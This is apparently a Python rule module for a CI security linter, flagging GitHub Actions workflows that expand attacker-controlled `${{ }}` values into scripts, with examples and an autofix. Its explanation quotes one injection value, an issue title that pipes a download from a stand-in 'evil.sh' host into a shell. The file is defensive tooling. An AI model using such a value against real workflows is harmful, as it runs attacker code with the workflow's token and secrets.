"""Template injection in workflows: attacker-controlled `${{ }}` expanded into code."""

from __future__ import annotations

from collections.abc import Iterator

from deploysafe.ci.github import workflow_of
from deploysafe.ci.injection import Scope, injections, workflow_inputs
from deploysafe.ci.yamlci import CiDocument
from deploysafe.model import Document, Practice, Severity, Target, Violation
from deploysafe.rules.base import AutoFix, Context, Rule
from deploysafe.rules.triggers._injection_fix import fix_injection


def check(doc: Document, ctx: Context) -> Iterator[Violation]:
    if not isinstance(doc, CiDocument):
        return
    wf = workflow_of(doc)
    inputs = workflow_inputs(wf.triggers)
    for job in wf.jobs:
        strategy = job.get("strategy")
        matrix = strategy.get("matrix") if isinstance(strategy, dict) else None
        for step in job.steps:
            scope = Scope((step.env, job.env, wf.env), matrix, inputs)
            for inj in injections(doc, step, scope):
                yield Violation(
                    inj.path,
                    f"{job.label} {step.label}: {inj.why}",
                    offset=inj.offset,
                )


RULE = Rule(
    id="DS102",
    title="Workflows must not expand attacker-controlled values into scripts",
    practice=Practice.TRIGGERS,
    severity=Severity.HIGH,
    target=Target.GITHUB_WORKFLOW,
    why=(
        "GitHub substitutes `${{ }}` expressions into a `run:` script (or a github-script "
        "`script:`) before the shell or Node sees it. An issue title, a pull request body, a "
        "branch name or a commit message is text an outsider chooses: a title such as "
        "`\"; curl evil.sh | sh; #` becomes code that runs with the workflow's token and "
        "secrets. The same holds for `env:` values, matrix entries and string inputs built from "
        "such text, when they are expanded with `${{ }}` in turn."
    ),
    fix="Pass the value through an environment variable and quote it in the shell: "
    '`env: {TITLE: ${{ github.event.issue.title }}}` and `run: echo "$TITLE"`. The shell '
    "never parses a variable's value as code.",
    bad="""\
on: issues
permissions: {}
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue ${{ github.event.issue.title }}"
""",
    good="""\
on: issues
permissions: {}
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue $TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
""",
    references=(
        "zizmor template-injection",
        "Scorecard Dangerous-Workflow (script injection)",
        "actionlint: script injection by potentially untrusted inputs",
        "Checkov CKV_GHA_2",
        "poutine injection",
        "GitHub Security Lab: Keeping your GitHub Actions and workflows secure, part 2",
    ),
    check=check,
    autofix=AutoFix(
        fix_injection,
        safe=True,
        summary="Each attacker-controlled `${{ }}` in a `run:` script becomes a variable of "
        "the step's `env:` (named from the context: `github.event.issue.title` is "
        "`ISSUE_TITLE`), read as `${NAME}` (bash, sh) or `$env:NAME` (PowerShell); the "
        "script keeps its block style and comments. Safe where every such expression is "
        "inside double quotes: the value was already a string there. Unsafe where one is "
        "unquoted or in single quotes (then written as `'\"${NAME}\"'`): a value meant as "
        "several words or as shell code stops being parsed as code. Other shells (python, "
        "cmd), a runner chosen at run time, heredocs and the code inputs of actions "
        "(github-script) need a manual fix.",
        after="""\
on: issues
permissions: {}
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue ${ISSUE_TITLE}"
        env:
          ISSUE_TITLE: ${{ github.event.issue.title }}
""",
    ),
)
